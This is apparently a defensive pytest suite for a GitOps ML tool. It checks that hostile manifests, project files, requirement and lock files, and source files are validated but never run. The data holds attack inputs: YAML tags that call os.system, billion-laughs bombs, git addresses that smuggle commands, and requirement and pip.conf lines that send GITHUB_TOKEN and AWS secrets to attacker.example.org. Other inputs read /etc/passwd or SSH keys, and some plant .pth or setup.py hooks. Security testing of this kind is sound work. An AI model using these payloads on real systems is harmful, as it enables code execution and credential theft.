"""Documents of a pull request: manifests, project files, what lists packages, and code."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from tests.hostile.net import MANIFEST, PREDICTOR, PROJECT_FILE, Hostile

if TYPE_CHECKING:
    from tests.hostile.conftest import Holds

REFUSED = frozenset({3})
NOT_THERE = b"HTTP/1.1 404 None\r\nContent-Length: 0\r\n\r\n"
EVIL_TAG = b"!!python/object/apply:os.system"
CONTAINER = b"""\
- name: answer
  kind: RealtimeAPI
  container: {image: 'r.example.org/x@sha256:%s', port: 8080}
""" % (b"1" * 64)
CROWD = b"".join(MANIFEST.replace(b"answer", b"answer-%d" % n) for n in range(1000))
LAUGHS = b"a: &a [x, x, x, x, x, x, x, x, x]\n" + b"".join(
    b"%c: &%c [%s]\n" % (n, n, b", ".join([b"*%c" % (n - 1)] * 9)) for n in range(98, 110)
)
BROKEN = {
    "nothing": b"",
    "only-zeros": bytes(1000),
    "only-byte-order-mark": b"\xef\xbb\xbf",
    "utf-16": b"- name: answer\n".decode().encode("utf-16"),
    "utf-32": b"- name: answer\n".decode().encode("utf-32"),
    "latin-1": b"- name: \xe9\xff\n",
    "escape-in-a-name": b"- name: \"\\e[31mred\"\n",
    "raw-escape": b"- name: \x1b[2J\n",
    "bell-in-a-key": b'"\\a\\b": 1\n',
    "right-to-left": '- name: "\u202eevil"\n'.encode(),
    "bidi-in-a-value": '- name: answer\n  kind: "\u2066x\u2069"\n'.encode(),
    "next-line-in-a-name": b'- name: "a\\Nb"\n',
    "lone-surrogate": b'- name: "\\ud800"\n',
    "only-brackets": b"[" * 500_000,
    "only-braces": b"{" * 500_000,
    "deep-flow": b"[" * 5000 + b"]" * 5000,
    "deep-block": b"\n".join(b" " * n + b"a:" for n in range(500)),
    "many-dashes": b"- " * 200_000,
    "many-question-marks": b"? " * 200_000,
    "many-anchors": b"".join(b"- &a%d x\n" % n for n in range(50_000)),
    "laughs": LAUGHS,
    "laughs-in-merges": b"a: &a {x: 1}\n" + b"".join(
        b"%c: &%c {<<: [%s]}\n" % (n, n, b", ".join([b"*%c" % (n - 1)] * 9)) for n in range(98, 108)
    ),
    "contains-itself": b"- &a [*a]\n",
    "merges-itself": b"- &a {<<: *a}\n",
    "unknown-alias": b"- *nothing\n",
    "python-tag": b"- name: %s ['touch {trip}/yaml']\n" % EVIL_TAG,
    "python-name-tag": b"- !!python/name:os.system\n",
    "python-module-tag": b"- !!python/module:antigravity\n",
    "python-object-new": b"- !!python/object/new:subprocess.Popen [[touch, '{trip}/yaml']]\n",
    "own-tag": b"- !include /etc/passwd\n",
    "tag-with-a-url": b"%TAG ! tag:http://{host}/,2000:\n---\n- !x 1\n",
    "two-documents": b"--- 1\n--- 2\n",
    "many-documents": b"--- x\n" * 100_000,
    "key-twice": b"- name: answer\n  name: other\n",
    "key-is-a-list": b"- ? [a, b]\n  : 1\n",
    "key-is-nothing": b"- ~: 1\n",
    "long-key": b"- %s: 1\n" % (b"k" * 900_000),
    "long-line": b"- name: %s\n" % (b"n" * 900_000),
    "long-number": b"- name: %s\n" % (b"9" * 900_000),
    "huge-exponent": b"- autoscaling: {max_replicas: 1e999}\n",
    "over-a-megabyte": b"# " + b"x" * (2 << 20),
    "base-60": b"- name: 1:2:3\n",
    "binary": b"- name: !!binary aGk=\n",
    "timestamps": b"- name: 2024-01-31T00:00:00Z\n",
    "set": b"- !!set {a, b}\n",
    "omap": b"- !!omap [a: 1]\n",
    "mapping-at-the-top": b"name: answer\n",
    "text-at-the-top": b"answer\n",
    "tabs": b"-\tname:\tanswer\n\tkind: x\n",
    "unclosed-text": b'- name: "' + b"\\\\" * 100_000,
    "unclosed-comment-lines": b"#\n" * 400_000,
    "crlf-only": b"\r" * 400_000,
    "a-list-of-lists": b"- " + b"[[],[]]," * 1000,
    "json": b'[{"name": "answer", "kind": "RealtimeAPI", "predictor": {"path": "predictor.py"}}]',
}  # fmt: skip
PATHS = (
    "/etc/passwd", "{root}/outside.txt", "../outside.txt", "file:///etc/passwd", "~/.ssh/id_ed25519",
    "a/../../outside.txt", "predictor.py/..", "", ".", "..", "\\\\host\\share.py", "nul\x00.py",
    "-rf.py", "$(touch {trip}/x).py", "`touch {trip}/x`.py", "a\nb.py", "%2e%2e/outside.py",
)  # fmt: skip
REACHING = {
    "cloud-identity": b"  annotations: {eks.amazonaws.com/role-arn: 'arn:aws:iam::1:role/admin'}\n",
    "gke-identity": b"  annotations: {iam.gke.io/gcp-service-account: admin@x.iam}\n",
    "azure-identity": b"  labels: {azure.workload.identity/use: 'true'}\n",
    "snippet": b"  annotations: {nginx.ingress.kubernetes.io/configuration-snippet: 'return 200;'}\n",
    "server-snippet": b"  annotations: {nginx.ingress.kubernetes.io/server-snippet: 'x'}\n",
    "sync-options": b"  annotations: {argocd.argoproj.io/sync-options: Replace=true}\n",
    "argo-hook": b"  annotations: {argocd.argoproj.io/hook: PreSync}\n",
    "compare-options": b"  annotations: {argocd.argoproj.io/compare-options: IgnoreExtraneous}\n",
    "helm-hook": b"  annotations: {helm.sh/hook: test}\n",
    "helm-keep": b"  annotations: {helm.sh/resource-policy: keep}\n",
    "capitals": b"  annotations: {HELM.sh/hook: test}\n",
    "system-class": b"  compute: {priority_class: system-cluster-critical}\n",
    "node-class": b"  compute: {priority_class: system-node-critical}\n",
    "control-plane": b"  compute: {tolerations: [{key: node-role.kubernetes.io/control-plane, operator: Exists}]}\n",
    "every-taint": b"  compute: {tolerations: [{operator: Exists}]}\n",
    "control-plane-node": b"  compute: {node_selector: {node-role.kubernetes.io/control-plane: ''}}\n",
    "affinity-of-no-shape": b"  compute: {affinity: {nodeAffinity: {hostPath: /}}}\n",
    "cluster-trigger": b"  autoscaling: {triggers: [{type: prometheus, "
    b"metadata: {serverAddress: 'http://{host}/', query: x, threshold: '1'}, "
    b"authentication: {name: p, kind: ClusterTriggerAuthentication}}]}\n",
    "operator-identity": b"  autoscaling: {triggers: [{type: aws-sqs-queue, metadata: {queueURL: 'https://x/q', "
    b"awsRegion: eu, queueLength: '1', identityOwner: operator}}]}\n",
}  # fmt: skip
MANIFESTS = [
    *(Hostile(name=name, files={"api.yaml": text}) for name, text in BROKEN.items()),
    *(
        Hostile(
            name=f"path-{number}",
            files={
                "api.yaml": b"- name: answer\n  kind: RealtimeAPI\n  predictor: {path: %s}\n"
                % ('"' + path.replace("\\", "\\\\").replace("\n", "\\n").replace("\0", "\\0") + '"').encode()
            },
            codes=REFUSED,
        )
        for number, path in enumerate(PATHS)
    ),
    *(
        Hostile(name=f"reaches-{name}", files={"api.yaml": CONTAINER + text}, codes=REFUSED)
        for name, text in REACHING.items()
    ),
    Hostile(
        name="reaches-host-beside-the-gateways",
        files={
            "api.yaml": CONTAINER + b"  networking: {hosts: [admin.example.org]}\n",
            "gitops-ml.yaml": PROJECT_FILE.replace(b"svc'}}", b"svc', gateway: {type: gateway-api, name: public, "
                                                   b"namespace: gateways, hosts: [ml.example.org]}}}"),
        },
        codes=REFUSED,
    ),
    Hostile(name="a-thousand-apis", files={"api.yaml": CROWD[: 1 << 20]}),
    Hostile(name="no-manifest", files={"api.yaml": None}),
]  # fmt: skip


def project_file(old: bytes, new: bytes) -> bytes:
    assert old in PROJECT_FILE
    return PROJECT_FILE.replace(old, new)


_REPOSITORY = b"gitops: {repository: '{root}/gitops.git'}"
PROJECTS = [
    *(
        Hostile(name=f"broken-{name}", files={"gitops-ml.yaml": text}, codes=REFUSED)
        for name, text in BROKEN.items()
        if name not in ("json", "nothing", "only-byte-order-mark", "unclosed-comment-lines")
    ),
    *(
        Hostile(name=f"repository-{number}", files={"gitops-ml.yaml": project_file(
            _REPOSITORY, b"gitops: {repository: \"%s\"}" % address)})
        for number, address in enumerate((
            b"ext::touch {trip}/ext", b"--upload-pack=touch {trip}/x", b"-u", b"", b"http://", b"https://[::1",
            b"ssh://-oProxyCommand=touch%20{trip}/ssh/x", b"fd::0", b"http://user:pass@{host}/x.git",
            b"\\e[31mhttps://x", b"https://host/a\\nb", b"http://{host}:99999/x", b"https://\xc3\xa9/x.git",
        ))
    ),
    Hostile(name="leaves-tls", files={"gitops-ml.yaml": project_file(
        b"r.example.org/ml", b"http://{host}/ml")}),
    Hostile(name="secret-in-a-name", files={"gitops-ml.yaml": project_file(b"shop", b"${GITHUB_TOKEN}")}),
    Hostile(name="many-environments", files={"gitops-ml.yaml": PROJECT_FILE.replace(
        b"environments: {", b"environments: {" + b"".join(
            b"e%d: {cluster: main, namespace: ml}, " % n for n in range(2000)))}),
]  # fmt: skip


@pytest.mark.parametrize("hostile", MANIFESTS, ids=str)
def test_a_hostile_manifest_is_judged_and_nothing_else(holds: Holds, hostile: Hostile) -> None:
    holds(with_arguments(hostile, "validate"))


@pytest.mark.parametrize("hostile", PROJECTS, ids=str)
def test_a_hostile_project_file_is_judged_and_nothing_else(holds: Holds, hostile: Hostile) -> None:
    holds(with_arguments(hostile, "validate"))


LINES = {
    "absolute": b"-r {root}/outside.txt\n",
    "file-address": b"-r file://{root}/outside.txt\n",
    "home": b"-r ~/.ssh/id_ed25519\n",
    "above": b"-r ../outside.txt\n",
    "constraint-absolute": b"-c {root}/outside.txt\n",
    "constraint-file": b"--constraint=file://{root}/outside.txt\n",
    "device": b"-r /dev/zero\n",
    "standard-input": b"-r /dev/stdin\n",
    "process": b"-r /proc/self/environ\n",
    "itself": b"-r requirements.txt\n",
    "from-a-server": b"-r http://{host}/requirements.txt\n",
    "editable-address": b"-e git+ext::touch\\ {trip}/e#egg=x\n",
    "git-file": b"x @ git+file://{root}/gitops.git\n",
    "git-address": b"x @ git+http://{host}/x.git\n",
    "local-source": b"./sdist\n",
    "secret-in-an-index": b"--index-url http://attacker.example.org/${INDEX_PASSWORD}/simple\nsix\n",
    "secret-in-more-indexes": b"--extra-index-url http://u:${GITHUB_TOKEN}@attacker.example.org/\nsix\n",
    "secret-in-a-link": b"--find-links http://attacker.example.org/${GITHUB_TOKEN}\nsix\n",
    "secret-in-an-address": b"six @ http://attacker.example.org/${AWS_SECRET_ACCESS_KEY}/six.whl\n",
    "trusted-host": b"--trusted-host {host}\nsix\n",
    "option-of-pip": b"--config-settings='x'\nsix\n",
    "install-option": b"six --install-option='--x'\n",
    "command": b"six; $(touch {trip}/r)\n",
    "marker": b"six; python_version > '" + b"3" * 100_000 + b"'\n",
    "markers-in-brackets": b"six; " + b"(" * 5000 + b"python_version > '3'" + b")" * 5000 + b"\n",
    "long-version": b"six==" + b"1." * 100_000 + b"1\n",
    "long-name": b"a" * 500_000 + b"\n",
    "many-lines": b"six\n" * 100_000,
    "many-continuations": b"\\\n" * 200_000,
    "many-extras": b"six[" + b"a," * 100_000 + b"a]\n",
    "zeros": bytes(10_000),
    "escape": b"six \x1b[31m\n",
    "latin-1": b"six # \xe9\xff\n",
    "utf-16": "six\n".encode("utf-16"),
    "hash": b"six==1.0 --hash=sha256:" + b"z" * 100_000 + b"\n",
    "html": b"<html>" * 1000,
}  # fmt: skip
_HEAD = b"""\
# Written by `gitops-ml lock` from the requirements of the project and the runtime: commit it.
lock-version = "1.0"
environments = [
    "platform_machine == 'x86_64' and sys_platform == 'linux'",
]
requires-python = "==3.11.*"
created-by = "gitops-ml"

[tool.gitops-ml]
format = 2
inputs = "0"
"""


def _locked(wheel: bytes, *, name: bytes = b"six", more: bytes = b"") -> bytes:
    entry = b'\n[[packages]]\nname = "%s"\nversion = "1.0"\n%swheels = [{ %s }]\n'
    return _HEAD + entry % (name, more, wheel)


_HASH = b'hashes = { sha256 = "%s" }' % (b"0" * 64)
_WHEEL = b'path = "six-1.0-py3-none-any.whl", ' + _HASH
LOCKS = {
    "nothing": b"",
    "zeros": bytes(1000),
    "another": b"six==1.0\n",
    "head": _HEAD,
    "no-hash": _locked(b'path = "six-1.0-py3-none-any.whl"'),
    "hash-of-nothing": _locked(_WHEEL.replace(b"0" * 64, b"")),
    "other-hash": _locked(_WHEEL.replace(b"sha256", b"md5")),
    "long": _locked(_WHEEL.replace(b"0" * 64, b"0" * 800_000)),
    "many": _locked(_WHEEL) + _locked(_WHEEL)[len(_HEAD) :] * 5000,
    "address": _locked(b'url = "http://{host}/six-1.0-py3-none-any.whl", ' + _HASH),
    "path": _locked(b'path = "../six-1.0-py3-none-any.whl", ' + _HASH),
    "directory": _locked(_WHEEL, more=b'directory = { path = "{root}" }\n'),
    "escape": _locked(_WHEEL, name=b"six\x1b[31m"),
    "name": _locked(_WHEEL, name=b"../six"),
    "dotted": _HEAD + b".".join([b"a"] * 200_000) + b" = 1\n",
    "nested": _HEAD + b"a = " + b"[" * 500_000,
    "requires": _locked(_WHEEL, more=b"dependencies = [%s]\n" % (b'{ name = "a" }, ' * 50_000)),
    "zero": _HEAD + b"# \x00\n",
}
OLD_LOCKS = {
    "old": b"# gitops-ml lock 1\nsix==1.0 --hash=sha256:%s\n" % (b"0" * 64),
    "old-long": b"# gitops-ml lock 1\nsix==" + b"1." * 400_000,
    "old-zero": b"# gitops-ml lock\n# inputs: \x00\n",
    "old-include": b"# gitops-ml lock 1\n-r {root}/outside.txt\nsix==1.0 @ {root}\n",
}
PACKAGES = [
    *(
        Hostile(name=f"requirements-{name}", files={"requirements.txt": text}, answers=(NOT_THERE,))
        for name, text in LINES.items()
    ),
    *(
        Hostile(name=f"lock-{name}", files={"requirements.txt": b"six\n", "pylock.toml": text})
        for name, text in LOCKS.items()
    ),
    *(
        Hostile(name=f"lock-{name}", files={"requirements.txt": b"six\n", "requirements.lock": text})
        for name, text in OLD_LOCKS.items()
    ),
]  # fmt: skip
LEADS_AWAY = {
    "absolute",
    "file",
    "home",
    "above",
    "device",
    "input",
    "process",
    "server",
    "secret",
    "git",
    "host",
    "command",
}
"""What is resolved as well, since it names something elsewhere."""


@pytest.mark.parametrize("hostile", PACKAGES, ids=str)
def test_hostile_requirements_and_locks_are_compared_and_nothing_else(
    holds: Holds, hostile: Hostile
) -> None:
    holds(with_arguments(hostile, "lock", "--check"))


@pytest.mark.parametrize(
    "hostile", [each for each in PACKAGES if LEADS_AWAY & set(each.name.split("-"))], ids=str
)
def test_hostile_requirements_are_resolved_without_reading_outside(
    holds: Holds, hostile: Hostile
) -> None:
    holds(with_arguments(hostile, "lock"))


IGNORED = {
    "many-stars": b"*" * 5000 + b"b\n",
    "stars-and-letters": b"*a" * 2000 + b"\n",
    "double-stars": b"**/" * 2000 + b"x\n",
    "brackets": b"[" * 5000 + b"\n",
    "open-class": b"[!" + b"a-" * 5000 + b"\n",
    "backslashes": b"\\" * 5001 + b"\n",
    "many-lines": b"".join(b"*a*b*%d*\n" % n for n in range(10_000)),
    "everything": b"*\n",
    "negations": b"*\n" + b"!*\n" * 5000,
    "zeros": bytes(1000),
    "escape": b"\x1b[31m\n",
    "above": b"../*\n/etc/*\n",
    "latin-1": b"\xff\xfe\xe9\n",
}
LONG_NAMES: dict[str, bytes | None] = {
    f"{'a' * 120}/{'a' * 120}/{n}{'a' * 120}": b"" for n in range(20)
}
CODE = {
    "touches": b"import os; os.system('touch {trip}/code')\n" + PREDICTOR,
    "touches-as-default": b"def f(x=__import__('os').system('touch {trip}/code')): pass\n" + PREDICTOR,
    "touches-in-an-annotation": PREDICTOR.replace(
        b"payload)", b"payload: __import__('os').system('touch {trip}/code'))"),
    "encoding": b"# coding: rot13\n" + PREDICTOR,
    "encoding-of-nothing": b"# coding: \x00\n" + PREDICTOR,
    "zeros": bytes(1000),
    "utf-16": PREDICTOR.decode().encode("utf-16"),
    "brackets": b"x = " + b"(" * 50_000,
    "lists": b"x = " + b"[" * 90 + b"]" * 90 + b"\n" + PREDICTOR,
    "minuses": b"x = " + b"-" * 50_000 + b"1\n",
    "attributes": b"x = a" + b".b" * 50_000 + b"\n" + PREDICTOR,
    "sum": b"x = " + b"1 + " * 20_000 + b"1\n" + PREDICTOR,
    "power": b"x = 9 ** 9 ** 9\n" + PREDICTOR,
    "number": b"x = " + b"9" * 100_000 + b"\n" + PREDICTOR,
    "deep-annotation": PREDICTOR.replace(b"payload)", b"payload: " + b"list[" * 2000 + b"int" + b"]" * 2000 + b")"),
    "class-of-itself": b"class PythonPredictor(PythonPredictor): pass\n",
    "many-classes": b"class PythonPredictor: pass\n" * 20_000,
    "docstring": PREDICTOR.replace(b"payload):", b"payload):\n        '\x1b[31m'"),
    "no-class": b"x = 1\n",
}  # fmt: skip
SOURCES = [
    *(
        Hostile(name=f"{file[1:]}-{name}", files={**LONG_NAMES, file: text})
        for file in (".gitopsmlignore", ".dockerignore")
        for name, text in IGNORED.items()
    ),
    *(Hostile(name=f"code-{name}", files={"predictor.py": text}) for name, text in CODE.items()),
    Hostile(name="sitecustomize", files={
        "sitecustomize.py": b"open('{trip}/site', 'w')", "usercustomize.py": b"open('{trip}/user', 'w')"}),
    *(
        Hostile(name=f"module-{name}", files={f"{name}.py": b"open('{trip}/module', 'w')\n"})
        for name in ("yaml", "json", "jsonschema", "git", "jinja2", "numpy", "gitops_ml", "conftest")
    ),
    Hostile(name="setup", files={"setup.py": b"open('{trip}/setup', 'w')\n", "setup.cfg": b"[x]\n",
                                 "pyproject.toml": b"[build-system]\nrequires = []\n"}),
    Hostile(name="script", files={"dependencies.sh": b"touch {trip}/script\n"}),
    Hostile(name="dockerfile", files={"Dockerfile": b"RUN touch {trip}/docker\n"}),
    Hostile(name="pth", files={"evil.pth": b"import os; os.system('touch {trip}/pth')\n"}),
    Hostile(name="notebook", files={"x.ipynb": b'{"cells": [{"cell_type": "code", "source": "!touch {trip}/n"}]}'}),
    Hostile(name="conda", files={"conda-packages.txt": b"$(touch {trip}/conda)\n\x1b[31m\n"}),
    Hostile(name="pip-conf", files={"pip.conf": b"[global]\nindex-url = http://attacker.example.org/${GITHUB_TOKEN}\n"}),
    Hostile(name="environment-file", files={".env": b"GIT_SSH_COMMAND=touch {trip}/env\n"}),
    Hostile(name="docker-config", files={".docker/config.json": b'{"credsStore": "evil"}'}),
]  # fmt: skip


@pytest.mark.parametrize("hostile", SOURCES, ids=str)
def test_a_hostile_source_is_rendered_without_being_run(holds: Holds, hostile: Hostile) -> None:
    holds(with_arguments(hostile, "render", "--offline"))


def with_arguments(hostile: Hostile, *arguments: str) -> Hostile:
    from dataclasses import replace

    return replace(hostile, arguments=arguments)
